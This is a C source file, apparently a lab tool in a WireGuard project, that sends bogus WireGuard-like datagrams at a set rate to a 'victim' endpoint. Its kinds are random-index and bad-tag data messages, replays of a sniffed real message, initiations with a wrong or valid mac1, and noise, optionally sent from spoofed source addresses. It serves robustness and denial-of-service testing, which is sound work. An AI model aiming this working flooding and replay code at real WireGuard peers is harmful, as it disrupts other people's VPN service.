/* SPDX-License-Identifier: LGPL-2.1-or-later */

/* Datagrams that look like WireGuard and are none, at a set rate, bounded in count and time. For an attacker who can watch
 * the wire it first learns from one real data message where to send, from where, and which receiver index is valid.
 * Prints one JSON object. Run it in the namespace to send from. */

#include "common/key-text.h"
#include "lab/ticks.h"
#include "split-mix.h"
#include "wg/wg-crypto.h"
#include "wg/wg-messages.h"
#include "wg/wg.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <glib.h>
#include <linux/if_ether.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum
{
  BATCH = 64,
  TICK_NS = 500000,
  DATAGRAM_MAX = 1452,
  COUNT_MAX = 10000000,
  SECONDS_MAX = 60,
  LEARN_MS = 10000,
  COUNTER_AHEAD = 1 << 20,
};

#define SPOOFED_NET UINT32_C (0x0a630000) /* 10.99.0.0/16: nobody's in the lab */

typedef enum
{
  KIND_UNKNOWN_INDEX, /* type 4, random receiver index */
  KIND_BAD_TAG,       /* type 4, the index of a live session, a counter to come */
  KIND_REPLAY,        /* one real data message, again and again */
  KIND_BAD_MAC1,      /* initiations of somebody who does not know the public key */
  KIND_INITIATION,    /* with a right mac1: the dearest thing that a stranger can ask for */
  KIND_NOISE,         /* random bytes of any length */
  KINDS,
} Kind;

static const char *const kind_names[KINDS] = { "unknown-index", "bad-tag",    "replay",
                                               "bad-mac1",      "initiation", "noise" };

/* One real data message on its way to the victim. */
typedef struct
{
  struct in_addr src, dst;
  uint16_t src_port, dst_port;
  uint8_t bytes[DATAGRAM_MAX];
  uint32_t len;
} Seen;

typedef struct
{
  Kind kind;
  uint32_t size;
  Seen seen;
  WgCrypto *crypto;
  uint8_t mac1_key[WG_HASH_LEN];
  bool raw;   /* with a UDP header of our own: the peer's own port */
  bool spoof; /* with an IP header of our own as well: each datagram from another address */
  uint64_t counter, random;
} Junk;

static void
fill (Junk *junk, uint8_t *at, uint32_t len)
{
  while (len > 0)
    {
      uint64_t word = split_mix (&junk->random);
      uint32_t n = MIN (len, (uint32_t) sizeof word);

      memcpy (at, &word, n);
      at += n;
      len -= n;
    }
}

/* --- Learning --- */

static bool
parse_data_message (const uint8_t *frame, size_t len, struct in_addr victim, Seen *out)
{
  const struct iphdr *ip = (const struct iphdr *) frame;
  const struct udphdr *udp;
  size_t header, left;

  if (len < sizeof *ip || ip->version != 4 || ip->protocol != IPPROTO_UDP
      || ip->daddr != victim.s_addr)
    return false;
  header = ip->ihl * 4u + sizeof *udp;
  if (len < header + WG_TAG_LEN + sizeof (WgMsgData))
    return false;
  udp = (const struct udphdr *) (frame + ip->ihl * 4u);
  left = MIN (len - header, sizeof out->bytes);
  memcpy (out->bytes, frame + header, left);
  if (wg_get_le32 (out->bytes) != 4)
    return false;
  out->src.s_addr = ip->saddr;
  out->dst.s_addr = ip->daddr;
  out->src_port = ntohs (udp->source);
  out->dst_port = ntohs (udp->dest);
  out->len = (uint32_t) left;
  return true;
}

/* Waits, in the namespace `ns`, for a data message to `victim`. */
static void
learn (const char *ns, const char *victim, Seen *out)
{
  static uint8_t frame[65536];
  uint64_t deadline = now_ns () + LEARN_MS * UINT64_C (1000000);
  struct in_addr to;
  int home = open ("/proc/self/ns/net", O_RDONLY | O_CLOEXEC),
      there = open (ns, O_RDONLY | O_CLOEXEC), fd;

  if (inet_pton (AF_INET, victim, &to) != 1)
    g_error ("%s is no IPv4 address", victim);
  if (home < 0 || there < 0 || setns (there, CLONE_NEWNET) < 0)
    g_error ("namespace %s: %s", ns, g_strerror (errno));
  fd = socket (AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons (ETH_P_ALL));
  if (fd < 0 || setns (home, CLONE_NEWNET) < 0)
    g_error ("socket: %s", g_strerror (errno));
  while (now_ns () < deadline)
    {
      struct pollfd pfd = { .fd = fd, .events = POLLIN };
      ssize_t len = poll (&pfd, 1, 100) == 1 ? recv (fd, frame, sizeof frame, 0) : 0;

      if (len > 0 && parse_data_message (frame, (size_t) len, to, out))
        {
          close (fd);
          close (home);
          close (there);
          return;
        }
    }
  g_error ("no data message to %s within %d s", victim, LEARN_MS / 1000);
}

/* --- Making --- */

static uint32_t
make_data (Junk *junk, uint8_t *out, bool valid_index)
{
  fill (junk, out, junk->size);
  wg_put_le32 (out, 4);
  if (valid_index)
    {
      memcpy (out + 4, junk->seen.bytes + 4, 4);
      wg_put_le64 (out + 8, wg_get_le64 (junk->seen.bytes + 8) + COUNTER_AHEAD + junk->counter++);
    }
  return junk->size;
}

static uint32_t
make_initiation (Junk *junk, uint8_t *out, bool right)
{
  WgMsgInitiation *msg = (WgMsgInitiation *) out;

  fill (junk, out, sizeof *msg);
  wg_put_le32 (out, 1);
  memset (msg->macs.mac2, 0, sizeof msg->macs.mac2);
  if (right
      && !wg_mac (junk->crypto, msg->macs.mac1, junk->mac1_key, sizeof junk->mac1_key, msg,
                  offsetof (WgMsgInitiation, macs)))
    g_error ("mac1");
  return sizeof *msg;
}

static uint32_t
make (Junk *junk, uint8_t *out)
{
  uint32_t len;

  switch (junk->kind)
    {
    case KIND_UNKNOWN_INDEX:
    case KIND_BAD_TAG:
      return make_data (junk, out, junk->kind == KIND_BAD_TAG);
    case KIND_REPLAY:
      memcpy (out, junk->seen.bytes, junk->seen.len);
      return junk->seen.len;
    case KIND_BAD_MAC1:
    case KIND_INITIATION:
      return make_initiation (junk, out, junk->kind == KIND_INITIATION);
    case KIND_NOISE:
    case KINDS:
      break;
    }
  len = 1 + (uint32_t) (split_mix (&junk->random) % junk->size);
  fill (junk, out, len);
  return len;
}

/* --- Sending --- */

static uint32_t
headers_len (const Junk *junk)
{
  return (junk->spoof ? sizeof (struct iphdr) : 0)
         + (junk->spoof || junk->raw ? sizeof (struct udphdr) : 0);
}

/* Of a datagram of `len` bytes, the headers among them. The kernel adds the IP checksum; UDP needs none. */
static void
write_headers (Junk *junk, const struct sockaddr_in *to, uint8_t *at, uint32_t len)
{
  uint64_t random = split_mix (&junk->random);
  struct iphdr ip = { .version = 4,
                      .ihl = sizeof ip / 4,
                      .ttl = 64,
                      .protocol = IPPROTO_UDP,
                      .saddr = htonl (SPOOFED_NET | (uint32_t) (random & 0xffff)),
                      .daddr = to->sin_addr.s_addr };
  struct udphdr udp = { .source = htons (junk->seen.src_port), .dest = to->sin_port };

  if (headers_len (junk) == 0)
    return;
  if (junk->spoof)
    {
      udp.source = htons ((uint16_t) (random >> 16 | 1024));
      memcpy (at, &ip, sizeof ip);
      at += sizeof ip;
      len -= (uint32_t) sizeof ip;
    }
  udp.len = htons ((uint16_t) len);
  memcpy (at, &udp, sizeof udp);
}

static uint64_t
blast (Junk *junk, int fd, const struct sockaddr_in *to, double pps, double seconds)
{
  static uint8_t bytes[BATCH][sizeof (struct iphdr) + sizeof (struct udphdr) + DATAGRAM_MAX];
  struct mmsghdr msgs[BATCH] = { 0 };
  struct iovec iov[BATCH];
  uint64_t start = now_ns (), end = start + (uint64_t) (seconds * 1e9), now = start, sent = 0;
  uint32_t head = headers_len (junk);
  struct sockaddr_in name = *to;

  if (head > 0)
    name.sin_port = 0;
  while (now < end && sent < COUNT_MAX)
    {
      uint64_t due = (uint64_t) ((double) (now - start + TICK_NS) * pps / 1e9);

      while (sent < due && now < end)
        {
          unsigned n = (unsigned) MIN (due - sent, BATCH);
          int r;

          for (unsigned i = 0; i < n; i++)
            {
              uint32_t len = head + make (junk, bytes[i] + head);

              write_headers (junk, to, bytes[i], len);
              iov[i] = (struct iovec){ bytes[i], len };
              msgs[i].msg_hdr = (struct msghdr){
                .msg_name = &name, .msg_namelen = sizeof name, .msg_iov = &iov[i], .msg_iovlen = 1
              };
            }
          r = sendmmsg (fd, msgs, n, 0);
          if (r > 0)
            sent += (uint64_t) r;
          else if (errno != ENOBUFS && errno != EINTR && errno != ECONNREFUSED)
            g_error ("send: %s", g_strerror (errno));
          now = now_ns ();
        }
      sleep_until (start + ((now - start) / TICK_NS + 1) * TICK_NS);
      now = now_ns ();
    }
  return sent;
}

static void
use_public_key (Junk *junk, const char *text)
{
  WgKey key;

  junk->crypto = wg_crypto_new ();
  if (!text || !bg_key_from_base64 (text, key.bytes))
    g_error ("initiations with a right mac1 need --public-key");
  if (!junk->crypto
      || !wg_hash (junk->crypto, junk->mac1_key, WG_LABEL_MAC1, strlen (WG_LABEL_MAC1), key.bytes,
                   sizeof key.bytes))
    g_error ("BLAKE2s");
}

static Kind
kind_from_name (const char *name)
{
  for (int i = 0; i < KINDS; i++)
    if (g_strcmp0 (name, kind_names[i]) == 0)
      return (Kind) i;
  g_error ("--kind: unknown-index, bad-tag, replay, bad-mac1, initiation or noise");
}

static int
open_socket (const Junk *junk)
{
  bool raw = junk->raw || junk->spoof;
  int fd = socket (AF_INET, (raw ? SOCK_RAW : SOCK_DGRAM) | SOCK_CLOEXEC,
                   junk->spoof ? IPPROTO_RAW
                   : raw       ? IPPROTO_UDP
                               : 0);

  if (fd < 0)
    g_error ("socket: %s", g_strerror (errno));
  return fd;
}

int
main (int argc, char **argv)
{
  g_autofree char *address = NULL, *kind = NULL, *watch = NULL, *public_key = NULL;
  double pps = 50000, seconds = 2;
  int size = 100, port = 0;
  gboolean same_port = FALSE, spoof = FALSE;
  GOptionEntry entries[] = {
    { "to", 0, 0, G_OPTION_ARG_STRING, &address, "The victim", "IPV4" },
    { "port", 0, 0, G_OPTION_ARG_INT, &port, "Its port; 0: learn it", "PORT" },
    { "kind", 0, 0, G_OPTION_ARG_STRING, &kind, "What to send", "KIND" },
    { "watch-ns", 0, 0, G_OPTION_ARG_FILENAME, &watch, "Where real traffic can be watched",
      "FILE" },
    { "same-port", 0, 0, G_OPTION_ARG_NONE, &same_port, "Send from the port of the real traffic",
      NULL },
    { "spoof", 0, 0, G_OPTION_ARG_NONE, &spoof, "Send from ever other addresses", NULL },
    { "public-key", 0, 0, G_OPTION_ARG_STRING, &public_key, "Of the victim, for mac1", "KEY" },
    { "size", 0, 0, G_OPTION_ARG_INT, &size, "Bytes of a datagram, or at most", "BYTES" },
    { "pps", 0, 0, G_OPTION_ARG_DOUBLE, &pps, "Datagrams per second", "N" },
    { "seconds", 0, 0, G_OPTION_ARG_DOUBLE, &seconds, "How long", "S" },
    { NULL }
  };
  g_autoptr (GOptionContext)
    context = g_option_context_new ("- datagrams that look like WireGuard");
  g_autoptr (GError) error = NULL;
  struct sockaddr_in to = { .sin_family = AF_INET };
  Junk junk = { 0 };
  uint64_t sent, started;
  int fd;

  g_option_context_add_main_entries (context, entries, NULL);
  if (!g_option_context_parse (context, &argc, &argv, &error))
    g_error ("%s", error->message);
  if (!address || inet_pton (AF_INET, address, &to.sin_addr) != 1 || size < 32
      || size > DATAGRAM_MAX || seconds > SECONDS_MAX)
    g_error ("--to an IPv4 address, --size 32 to %d, --seconds up to %d", DATAGRAM_MAX,
             SECONDS_MAX);
  junk.kind = kind_from_name (kind);
  junk.size = (uint32_t) size;
  junk.raw = same_port;
  junk.spoof = spoof;
  if (getrandom (&junk.random, sizeof junk.random, 0) != sizeof junk.random)
    g_error ("getrandom");
  if (watch)
    learn (watch, address, &junk.seen);
  else if (port == 0 || same_port || junk.kind == KIND_BAD_TAG || junk.kind == KIND_REPLAY)
    g_error ("--watch-ns is needed for that");
  if (junk.kind == KIND_INITIATION)
    use_public_key (&junk, public_key);
  to.sin_port = htons ((uint16_t) (port ? port : junk.seen.dst_port));
  fd = open_socket (&junk);
  started = now_ns ();
  printf ("blasting port %d\n", ntohs (to.sin_port));
  fflush (stdout);
  sent = blast (&junk, fd, &to, pps, seconds);
  printf ("{\"sent\": %" G_GUINT64_FORMAT ", \"pps\": %.0f}\n", sent,
          (double) sent / ((double) (now_ns () - started) / 1e9));
  close (fd);
  wg_crypto_free (junk.crypto);
  return 0;
}
